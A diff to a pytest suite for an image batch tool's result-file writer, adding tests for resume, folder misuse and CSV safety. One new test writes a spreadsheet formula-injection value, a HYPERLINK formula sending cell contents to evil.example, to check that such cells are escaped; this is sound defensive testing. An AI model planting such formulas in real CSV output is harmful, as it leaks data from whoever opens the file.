@@ -29,6 +29,7 @@ def records(n: int, *, failed: int = -1) -> list[Record]:
 def test_resume_reads_back_what_was_answered(tmp_path, fmt):
     path = tmp_path / f"out.{fmt}"
     out = ResultFile(path, fmt, resume=False)
+    out.open()
     for record in records(4, failed=2):
         out.write(record)
     out.write(Record("notes.txt", "f" * 64, error="notes.txt: text, not an image", skipped=True))
@@ -36,18 +37,21 @@ def test_resume_reads_back_what_was_answered(tmp_path, fmt):
     out.close()
     again = ResultFile(path, fmt, resume=True)
     # answered: 0, 1, 3 and page 2 of the PDF; the failure and the skipped file are asked again
-    assert again.done == {(f"{k:064x}", None) for k in (0, 1, 3)} | {("e" * 64, 2)}
-    assert again.earlier == 6
-    again.close()
+    assert again.earlier.done == {(f"{k:064x}", None) for k in (0, 1, 3)} | {("e" * 64, 2)}
+    assert again.earlier.records == 6
+    assert again.earlier.answers[("e" * 64, 2)]["answer"] == "page two"
 
 
 def test_csv_is_one_row_per_record_with_the_header_once(tmp_path):
     path = tmp_path / "out.csv"
     out = ResultFile(path, "csv", resume=False)
+    out.open()
     out.write(Record("a.jpg", "a" * 64, answer="two\nlines", data={"k": 1}, structured=True,
                      metrics={"prompt_eval_count": 7}, model="m"))  # fmt: skip
     out.close()
-    ResultFile(path, "csv", resume=True).close()  # no second header
+    again = ResultFile(path, "csv", resume=True)
+    again.open()  # no second header
+    again.close()
     rows = list(csv.reader(io.StringIO(path.read_text(), newline="")))
     assert rows[0] == list(CSV_COLUMNS)
     assert rows[1][:8] == ["a.jpg", "", "a" * 64, "two\nlines", '{"k": 1}', "", "", "m"]
@@ -63,12 +67,20 @@ def test_an_existing_file_is_never_overwritten_without_resume(tmp_path):
     assert path.read_text() == record_line(records(1)[0])
 
 
+@pytest.mark.parametrize("resume", [False, True])
+def test_a_folder_as_the_output_is_named_as_such(tmp_path, resume):
+    with pytest.raises(UsageError) as info:
+        ResultFile(tmp_path, "jsonl", resume=resume)
+    assert info.value.message == f"--output {tmp_path} is a folder"  # not "already holds results"
+
+
 def test_a_torn_last_line_is_dropped_on_resume(tmp_path):
     path = tmp_path / "out.jsonl"
     whole = "".join(record_line(r) for r in records(3))
     path.write_text(whole + '{"path": "p3.jpg", "sha2')  # what a power cut mid-write would leave
     out = ResultFile(path, "jsonl", resume=True)
-    assert out.earlier == 3 and len(out.done) == 3
+    assert out.earlier.records == 3 and len(out.earlier.done) == 3
+    out.open()
     out.write(records(4)[3])
     out.close()
     lines = path.read_text().splitlines()
@@ -86,6 +98,7 @@ def test_a_file_that_is_not_batch_output_is_refused(tmp_path):
 def test_a_short_write_is_cut_back_off(tmp_path, monkeypatch):
     path = tmp_path / "out.jsonl"
     out = ResultFile(path, "jsonl", resume=False)
+    out.open()
     out.write(records(1)[0])
     real_write = os.write
     monkeypatch.setattr(os, "write", lambda fd, data: real_write(fd, data[:10]))  # the disk filled up
@@ -112,3 +125,21 @@ def test_folders_are_walked_sorted_with_our_own_outputs_left_out(tmp_path):
         expand([str(tmp_path / "typo")])
     with pytest.raises(UsageError, match="matches no file"):
         expand([str(tmp_path / "*.heic")])
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_read_back(tmp_path, start):
+    path = tmp_path / "out.csv"
+    out = ResultFile(path, "csv", resume=False)
+    out.open()
+    hostile = f"{start}HYPERLINK(\"http://evil.example/?\"&A1)"  # text read off an image: anyone may write it
+    out.write(Record(f"{start}cmd.jpg", "a" * 64, answer=hostile, data={"k": hostile}, structured=True, model="m"))
+    out.close()
+    with path.open(newline="") as handle:
+        rows = list(csv.reader(handle))
+    row = dict(zip(CSV_COLUMNS, rows[1]))
+    for column in ("path", "answer"):
+        assert row[column].startswith("'" + start)  # shown as text, never run
+    again = ResultFile(path, "csv", resume=True)  # --resume takes the ' off again
+    (earlier,) = again.earlier.answers.values()
+    assert earlier["answer"] == hostile and earlier["path"] == f"{start}cmd.jpg" and earlier["data"] == {"k": hostile}
